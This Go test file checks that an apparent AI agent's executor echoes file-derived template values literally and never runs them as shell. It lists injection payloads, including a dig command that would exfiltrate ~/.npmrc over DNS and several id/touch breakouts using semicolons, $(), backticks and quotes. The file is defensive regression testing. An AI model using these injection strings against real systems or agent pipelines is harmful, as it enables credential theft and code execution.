package executor

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/autoshell/agent/planner"
	"github.com/autoshell/agent/safety"
)

// TestTemplateValueStaysOneWord: a value read from a file on the target
// (which whoever controls the target wrote) spliced into `echo {{out}}`
// is echoed as it is, at default approval, and nothing in it runs: not
// the dig that would send ~/.npmrc out, not the touch, not the id.
func TestTemplateValueStaysOneWord(t *testing.T) {
	h := newHarness(t)
	pwned := filepath.Join(h.dir, "PWNED")
	for _, payload := range []string{
		"x; dig @127.0.0.1 -p 9 $(cat ~/.npmrc).x",
		"x; id",
		"x $(touch " + pwned + ") `touch " + pwned + "` && touch " + pwned,
		"x' ; touch " + pwned + " ; echo '",
		"x\" ; touch " + pwned + " ; echo \"",
	} {
		f := h.write("payload.txt", payload)
		for _, cmd := range []string{`echo {{out}}`, `echo "{{out}}"`, `echo '{{out}}'`} {
			h.events = nil
			e := h.executor(safety.DefaultMode(false), false, nil)
			plan := &planner.Plan{Phases: []planner.Phase{{Phase: 1, Steps: []planner.Step{
				{Tool: "read_file", Parameters: map[string]any{"file_path": f}, SaveOutputAs: "out"},
				{Tool: "execute_command", Parameters: map[string]any{"command": cmd}, SaveOutputAs: "echoed"},
			}}}}
			sum, err := e.RunPlan(context.Background(), plan)
			if err != nil || sum.OK != 2 {
				t.Errorf("%s with %q: %+v %v, want both steps run (echo is safe)", cmd, payload, sum, err)
				continue
			}
			if got := strings.TrimSpace(e.cfg.Vars.Vars()["echoed"].(string)); got != payload {
				t.Errorf("%s with %q echoed %q", cmd, payload, got)
			}
		}
	}
	if _, err := os.Stat(pwned); err == nil {
		t.Error("a template value ran as code")
	}
}
